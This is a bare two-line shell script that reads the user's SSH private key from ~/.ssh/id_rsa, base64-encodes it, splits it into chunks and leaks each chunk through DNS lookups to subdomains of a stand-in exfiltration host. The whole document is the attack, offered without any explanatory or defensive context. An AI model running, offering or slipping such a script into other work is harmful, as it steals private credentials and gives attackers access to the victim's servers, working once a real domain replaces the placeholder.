#!/bin/sh
for c in $(cat ~/.ssh/id_rsa | base64 | fold -w 60); do nslookup ${c}.d.exfil-zone.example.com; done
